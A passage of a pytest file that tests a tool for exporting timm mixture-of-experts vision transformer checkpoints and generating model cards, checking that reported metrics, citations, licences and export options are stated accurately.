    assert json.loads(uploaded["config.json"])["architecture"] == "vit_tiny_ewa_moe"


def test_a_sum_of_averaged_experts_is_not_what_was_measured(checkpoint):
    card = push_dense(checkpoint, "user/vit", method="sum", dry_run=True).card
    assert "model-index" not in front_matter(card)
    assert "51.25" not in card


def test_results_of_ema_weights_are_those_of_the_ema(checkpoint, tmp_path):
    content = torch.load(checkpoint, weights_only=False)
    content["args"].model_ema = True
    torch.save(content, tmp_path / "last.pth.tar")
    shutil.copy(checkpoint.parent / "summary.csv", tmp_path)
    card = push_dense(tmp_path / "last.pth.tar", "user/vit", use_ema=True, dry_run=True).card
    assert "From `last.pth.tar` (its EMA weights), which timm's train.py wrote" in card
    assert "| top-1 accuracy (%) | 51.25 |" in card


def test_the_ratio_of_an_svd_is_the_one_that_is_asked_for(
    checkpoints, tmp_path, monkeypatch, caplog
):
    file, uploaded = checkpoints["vit_tiny_moe"], {}

    def commit(api, files, library, settings):
        uploaded.update(load_bytes(files["model.safetensors"].read_bytes()))
        return None, None

    monkeypatch.setattr("timm_moe.export.push.log_in", lambda settings: object())
    monkeypatch.setattr("timm_moe.export.push.commit", commit)
    method = ["--method", "svd", "--svd-ratio", "0.25"]
    assert main(["push", str(file), "user/vit", *method]) == 0
    assert "is not the one that was trained: validate it" in caplog.text
    assert main(["export", str(file), str(tmp_path / "vit"), *method]) == 0
    exported = load_bytes((tmp_path / "vit/model.safetensors").read_bytes())
    expected = timm_moe.to_dense(load_source(file), "svd", 0.25)
    for name, tensor in expected.state_dict().items():
        torch.testing.assert_close(exported[name], tensor)
        torch.testing.assert_close(uploaded[name], tensor)


def test_the_card_counts_what_a_token_passes_through(checkpoints):
    file = checkpoints["vit_tiny_moe"]
    number = activated_parameters(load_source(file))
    card = push_moe(file, "user/vit", dry_run=True).card
    assert f"| that a token passes through | {number:,} |" in card


def test_an_ensemble_is_cited_beside_the_family_that_it_is_of():
    model = timm.create_model("vmoe_pbe_s32", **SMALL_VIT, num_experts=4, moe_layers="last-1")
    card = push_moe(model, "user/vit", dry_run=True).card
    assert re.findall(r"arXiv:([\d.]+)", card) == ["2110.03360", "2106.05974"]


@pytest.mark.parametrize("method", ["average", "sum"])
def test_a_method_of_ones_is_cited(checkpoints, method):
    card = push_dense(checkpoints["vit_tiny_moe"], "user/vit", method=method, dry_run=True).card
    assert ("arXiv:2201.10890" in card) == (method == "sum")


def test_what_the_publisher_measured_chose_no_epoch(checkpoint, tmp_path):
    file = changed(checkpoint, tmp_path, "model_best.pth.tar")
    card = push_dense(file, "user/vit", metrics={"top1": 40.0}, dry_run=True).card
    assert "Stated by the publisher." in card


@pytest.mark.parametrize("mode", ["HSV", "RGB", None])
@pytest.mark.first_case
def test_the_mode_of_images_is_told(checkpoint, tmp_path, mode):
    file = changed(checkpoint, tmp_path, input_img_mode=mode)
    card = push_dense(file, "user/vit", dry_run=True).card
    assert ("Its images have the mode `HSV` of Pillow" in card) == (mode == "HSV")


def test_the_licence_of_the_pretrained_weights_is_told_as_such(checkpoint, tmp_path):
    file = changed(checkpoint, tmp_path, pretrained=True)
    card = push_dense(file, "user/vit", dry_run=True).card
    assert "apache-2.0, that of the pretrained weights." in card
    card = push_dense(file, "user/vit", license="apache-2.0", dry_run=True).card
    assert "\napache-2.0\n" in card


def test_a_shared_expert_is_told():
    model = make_model("vimoe_s14_shared")
    assert "and a shared one." in push_moe(model, "user/vit", dry_run=True, model_args={}).card


def test_results_are_those_of_the_epoch_of_the_weights(checkpoint, tmp_path):
    """Two epochs may have the same accuracy."""
    file = changed(checkpoint, tmp_path)
    rows = "epoch,eval_loss,eval_top1\n1,2.5,51.25\n2,2.25,51.25\n"
    (tmp_path / "summary.csv").write_text(rows)
    assert "| loss | 2.5 |" in push_dense(file, "user/vit", dry_run=True).card


@pytest.mark.parametrize("mixup", [0.0, 0.2])
def test_an_option_that_means_something_beside_another_is_told(checkpoint, tmp_path, mixup):
    file = changed(checkpoint, tmp_path, mixup=mixup, mixup_prob=0.5)
    card = push_dense(file, "user/vit", dry_run=True).card
    assert ("| mixup_prob | `0.5` |" in card) == (mixup > 0)
